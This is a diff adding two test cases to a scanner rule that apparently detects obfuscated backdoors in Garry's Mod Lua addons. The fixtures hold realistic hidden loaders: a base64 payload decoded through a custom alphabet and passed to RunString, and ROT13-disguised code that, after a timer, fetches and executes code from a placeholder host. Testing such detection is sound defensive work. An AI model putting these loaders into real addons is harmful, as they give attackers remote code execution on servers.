@@ -115,4 +115,34 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it('a payload in base64 over a custom alphabet, mapped back with gsub and a table', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"',
+        'local cus = "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210-_"',
+        'local map = {}',
+        'for i = 1, #cus do map[cus:sub(i, i)] = std:sub(i, i) end',
+        'local function lic(s) return util.Base64Decode((s:gsub(".", map))) end',
+        'hook.Add("Initialize", "lic", function() RunString(lic("zSI9xX4TACIqzXtrzSI9xSN3Ob0mwD4aOnofwnUhzDJeAb4dzSZrOTA8ynM9zD0fPTRkRUQ8yoM9xnofAbsrPHYoynJk"), "pack") end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('names decoded with a substitution alphabet looked up by string.find', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local A = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"',
+        'local B = "nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM"',
+        'local function kf(s)',
+        ' local out = {}',
+        ' for i = 1, #s do local c = s:sub(i, i) local p = B:find(c, 1, true) out[#out + 1] = p and A:sub(p, p) or c end',
+        ' return table.concat(out)',
+        'end',
+        'timer.Simple(12, function()',
+        ' _G[kf("uggc")][kf("Srgpu")]("https://k.invalid/k.php", function(b) _G[kf("EhaFgevat")](b) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
 });
